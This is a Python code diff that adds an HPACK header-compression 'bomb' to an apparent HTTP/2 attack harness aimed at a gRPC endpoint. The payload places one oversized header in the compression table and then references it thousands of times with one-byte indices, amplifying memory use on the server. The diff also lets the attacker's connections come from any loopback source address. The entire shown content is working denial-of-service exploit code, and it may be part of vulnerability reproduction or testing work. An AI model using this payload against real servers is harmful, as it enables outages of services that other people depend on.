@@ -51,10 +51,26 @@ def header_frames(stream: int, block: bytes, flags: int = END_STREAM) -> bytes:
     )
 
 
+def bomb(value_size: int, references: int, *extra: tuple[str, str]) -> tuple[bytes, bytes]:
+    """A request's block with one large field, which it puts into the compression table, and so many one-byte references to
+    it; and a further request's, whose large fields are all references."""
+    fields = [
+        (":method", "POST"), (":scheme", "http"), (":path", ATTACK_PATH), (":authority", "x"),
+        ("content-type", "application/grpc"), ("te", "trailers"), *extra,
+    ]
+    # Sensitive: nothing but the large field enters the table.
+    head = hpack.Encoder().encode([(*field, True) for field in fields], huffman=False)
+    large = hpack.Encoder().encode([("x", "v" * value_size)], huffman=False)
+    reference = bytes([0x80 | 62])
+    return head + large + reference * references, head + reference * (references + 1)
+
+
 class Attacker:
-    def __init__(self, address: str, settings: dict[int, int] | None = None):
+    """- `source`: the address that it comes from; all of 127.0.0.0/8 is this machine's."""
+
+    def __init__(self, address: str, settings: dict[int, int] | None = None, source: str = "127.0.0.1"):
         host, port = address.rsplit(":", 1)
-        self.socket = socket.create_connection((host, int(port)), timeout=20)
+        self.socket = socket.create_connection((host, int(port)), timeout=20, source_address=(source, 0))
         self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self._encoder = hpack.Encoder()
         self._encoder.header_table_size = 0
